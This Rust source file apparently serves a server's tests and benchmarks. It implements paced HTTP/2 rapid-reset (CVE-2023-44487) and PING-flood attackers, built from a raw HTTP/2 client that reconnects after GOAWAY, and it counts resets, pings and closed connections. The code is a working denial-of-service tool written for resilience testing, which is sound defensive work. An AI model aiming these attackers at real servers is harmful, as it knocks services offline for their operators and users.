//! HTTP/2 attackers for the tests and the bench: rapid reset (CVE-2023-44487) and PING floods at a
//! set rate, from a raw HTTP/2 client, reconnecting whenever the server closes the connection.
//! Paced rather than as fast as they can: on the 2 cores they share with the server, an unpaced
//! attacker's own CPU is what a measurement would see (measured: a thread merely burning CPU,
//! even at nice 5, took Resolve p99 from 0.9 ms to 5 ms).

use std::{
    net::SocketAddr,
    sync::atomic::{AtomicU64, Ordering},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};
use tokio_util::sync::CancellationToken;

/// The HTTP/2 client connection preface.
const PREFACE: &[u8; 24] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// How often the attackers send a burst.
const TICK: Duration = Duration::from_millis(1000 / TICKS_PER_SECOND as u64);
/// Streams each rapid-reset attacker opens and resets per tick: 2,500 a second.
const RESETS_PER_TICK: usize = 25;
/// PINGs each PING flooder sends per tick: 250,000 a second.
const PINGS_PER_TICK: u64 = 2_500;
/// Attackers of each kind that [`Attackers`] starts.
const ATTACKERS_OF_EACH_KIND: usize = 2;
/// Ticks in a second.
const TICKS_PER_SECOND: usize = 100;
/// Streams reset a second by all of [`Attackers`].
pub const RESETS_PER_SECOND: usize = ATTACKERS_OF_EACH_KIND * RESETS_PER_TICK * TICKS_PER_SECOND;
/// PINGs sent a second by all of [`Attackers`].
pub const PINGS_PER_SECOND: u64 =
    (ATTACKERS_OF_EACH_KIND * TICKS_PER_SECOND) as u64 * PINGS_PER_TICK;

/// What the attackers did, counted as they go.
#[derive(Debug, Default)]
pub struct Attack {
    resets: AtomicU64,
    goaways: AtomicU64,
    pings: AtomicU64,
}

/// What the attackers had done at one moment.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackCounts {
    /// Streams opened and reset.
    pub resets: u64,
    /// Connections the server ended with GOAWAY.
    pub goaways: u64,
    /// PING frames sent.
    pub pings: u64,
}

impl std::ops::Sub for AttackCounts {
    type Output = Self;

    fn sub(self, earlier: Self) -> Self {
        Self {
            resets: self.resets - earlier.resets,
            goaways: self.goaways - earlier.goaways,
            pings: self.pings - earlier.pings,
        }
    }
}

impl Attack {
    pub fn counts(&self) -> AttackCounts {
        AttackCounts {
            resets: self.resets.load(Ordering::Relaxed),
            goaways: self.goaways.load(Ordering::Relaxed),
            pings: self.pings.load(Ordering::Relaxed),
        }
    }
}

type SendRequest = h2::client::SendRequest<bytes::Bytes>;

/// Opens a stream on `client` and resets it at once; the client again, unless the connection
/// ended.
async fn open_and_reset(client: SendRequest, uri: &str) -> Option<SendRequest> {
    let mut client = client.ready().await.ok()?;
    let request = http::Request::post(uri)
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap();
    let (_response, mut stream) = client.send_request(request, false).ok()?;
    stream.send_reset(h2::Reason::CANCEL);
    Some(client)
}

/// Rapid reset: opens streams of `Resolve` and resets each at once, [`RESETS_PER_TICK`] per tick,
/// reconnecting whenever the server ends the connection, until `stop`.
pub async fn rapid_reset(addr: SocketAddr, attack: &Attack, stop: CancellationToken) {
    let uri = format!("http://{addr}/proxyconf.v1.ProxyConfig/Resolve");
    let mut tick = tokio::time::interval(TICK);
    while !stop.is_cancelled() {
        let Ok(tcp) = TcpStream::connect(addr).await else {
            continue;
        };
        let Ok((client, connection)) = h2::client::handshake(tcp).await else {
            continue;
        };
        let driver = tokio::spawn(connection);
        let mut client = Some(client);
        while stop.run_until_cancelled(tick.tick()).await.is_some() {
            for _ in 0..RESETS_PER_TICK {
                let Some(open) = client.take() else { break };
                client = open_and_reset(open, &uri).await;
                attack
                    .resets
                    .fetch_add(u64::from(client.is_some()), Ordering::Relaxed);
            }
            if client.is_none() {
                break;
            }
        }
        drop(client);
        if let Ok(Err(error)) = driver.await
            && error.is_go_away()
        {
            attack.goaways.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// A PING flood: [`PINGS_PER_TICK`] PING frames per tick (the answers read and dropped),
/// reconnecting when the server closes the connection, until `stop`.
pub async fn ping_flood(addr: SocketAddr, attack: &Attack, stop: CancellationToken) {
    let pings: Vec<u8> = (0..PINGS_PER_TICK)
        .flat_map(|i| [[0, 0, 8, 0x6, 0, 0, 0, 0, 0].as_slice(), &i.to_be_bytes()].concat())
        .collect();
    let hello = [PREFACE.as_slice(), &[0, 0, 0, 0x4, 0, 0, 0, 0, 0]].concat();
    let mut tick = tokio::time::interval(TICK);
    while !stop.is_cancelled() {
        let Ok(tcp) = TcpStream::connect(addr).await else {
            continue;
        };
        let (mut read, mut write) = tcp.into_split();
        let drain = tokio::spawn(async move {
            let mut buf = vec![0; 64 * 1024];
            while read.read(&mut buf).await.is_ok_and(|n| n > 0) {}
        });
        let mut open = write.write_all(&hello).await.is_ok();
        while open && stop.run_until_cancelled(tick.tick()).await.is_some() {
            open = write.write_all(&pings).await.is_ok();
            attack
                .pings
                .fetch_add(PINGS_PER_TICK * u64::from(open), Ordering::Relaxed);
        }
        drop(write);
        drain.abort();
        let _ = drain.await;
    }
}

/// Two rapid-reset attackers and two PING flooders against `addr`, on a runtime of their own (one
/// thread, as another process would have), until dropped.
pub struct Attackers {
    pub attack: std::sync::Arc<Attack>,
    stop: CancellationToken,
    runtime: Option<tokio::runtime::Runtime>,
    running: Vec<tokio::task::JoinHandle<()>>,
}

impl Attackers {
    pub fn start(addr: SocketAddr) -> Self {
        let attack = std::sync::Arc::new(Attack::default());
        let stop = CancellationToken::new();
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .expect("a runtime for the attackers");
        let mut running = Vec::new();
        for _ in 0..ATTACKERS_OF_EACH_KIND {
            let (attack_a, stop_a) = (attack.clone(), stop.clone());
            running.push(runtime.spawn(async move { rapid_reset(addr, &attack_a, stop_a).await }));
            let (attack_b, stop_b) = (attack.clone(), stop.clone());
            running.push(runtime.spawn(async move { ping_flood(addr, &attack_b, stop_b).await }));
        }
        Self {
            attack,
            stop,
            runtime: Some(runtime),
            running,
        }
    }

    /// Stops the attackers and waits for them to end.
    pub async fn stop(mut self) {
        self.stop.cancel();
        for attacker in self.running.drain(..) {
            let _ = attacker.await;
        }
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        self.stop.cancel();
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}
